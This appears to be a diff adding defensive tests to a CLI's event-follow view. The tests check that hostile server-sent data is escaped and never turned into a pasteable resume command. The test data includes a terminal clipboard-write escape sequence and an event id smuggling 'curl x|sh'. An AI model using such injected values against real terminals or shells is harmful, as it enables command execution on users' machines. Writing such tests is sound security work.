@@ -172,6 +172,74 @@ describe('the live follow view', () => {
     await expect(followAndShow(clientOf(server), seen.io, RUN, false)).rejects.toBeInstanceOf(WrsNetworkError);
     expect(seen.err.at(-1)).toBe(`following stopped after event 9 (the error follows). Resume: wrs runs events ${RUN} --follow --after 9`);
   });
+
+  it("an event type from the event's JSON that wrs does not describe is written out", async () => {
+    const osc52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07';
+    const server = await listening((_req, res) => {
+      res.writeHead(200, { 'content-type': 'text/event-stream', 'x-request-id': 'r' });
+      // The SSE event name is one wrs knows; the type inside the data is not.
+      res.end(
+        `id: 1\nevent: run.started\ndata: ${JSON.stringify({ type: `run.new${osc52}`, runId: RUN, data: {} })}\n\n` +
+          frame(2, 'run.succeeded', { at, exitCode: 0 }),
+      );
+    });
+    const seen = captured();
+    try {
+      expect(await followAndShow(clientOf(server), seen.io, RUN, false)).toBe(EXIT.ok);
+    } finally {
+      server.close();
+    }
+    expect(seen.err.map(withoutTime)).toEqual(['run.new\\x1b]52;c;ZWNobyBwd25lZA==\\x07', 'succeeded (exit 0)']);
+  });
+
+  it('an event id that is not a sequence number: no resume command to paste, on Ctrl-C or on an error', async () => {
+    const hostile = (res: ServerResponse): void => {
+      res.writeHead(200, { 'content-type': 'text/event-stream', 'x-request-id': 'r' });
+      res.write(
+        `id: 5;curl x|sh\x1b]0;t\x07\nevent: run.created\ndata: ${JSON.stringify({ type: 'run.created', runId: RUN, data: { at } })}\n\n`,
+      );
+    };
+    const interrupted = await listening((_req, res) => {
+      hostile(res);
+      setTimeout(() => process.emit('SIGINT'), 100);
+    });
+    const seen = captured();
+    try {
+      expect(await followAndShow(clientOf(interrupted), seen.io, RUN, false)).toBe(EXIT.interrupted);
+    } finally {
+      interrupted.close();
+    }
+    expect(seen.err.at(-1)).toBe(`stopped following; run ${RUN} goes on (state queued).`);
+
+    const broken = await listening((_req, res) => {
+      hostile(res);
+      res.end('event: run.started\ndata: not json\n\n');
+    });
+    const failed = captured();
+    try {
+      await expect(followAndShow(clientOf(broken), failed.io, RUN, false)).rejects.toBeInstanceOf(SyntaxError);
+    } finally {
+      broken.close();
+    }
+    expect(failed.err.map(withoutTime)).toEqual(['queued']);
+  });
+
+  it('the resume command keeps --json and --workload-exit-code', async () => {
+    const server = await listening((_req, res) => {
+      res.writeHead(200, { 'content-type': 'text/event-stream', 'x-request-id': 'r' });
+      res.write(frame(1, 'run.created', { at }) + frame(7, 'run.log', { index: 0, stream: 'stdout', line: 'hello', at }));
+      setTimeout(() => process.emit('SIGINT'), 100);
+    });
+    const seen = captured();
+    try {
+      expect(await followAndShow(clientOf(server), seen.io, RUN, true, { workloadExitCode: true })).toBe(EXIT.interrupted);
+    } finally {
+      server.close();
+    }
+    expect(seen.err.at(-1)).toBe(
+      `stopped following; run ${RUN} goes on (state queued). Resume: wrs --json runs events ${RUN} --follow --workload-exit-code --after 7`,
+    );
+  });
 });
 
 async function listening(handler: (req: IncomingMessage, res: ServerResponse) => void): Promise<Server> {
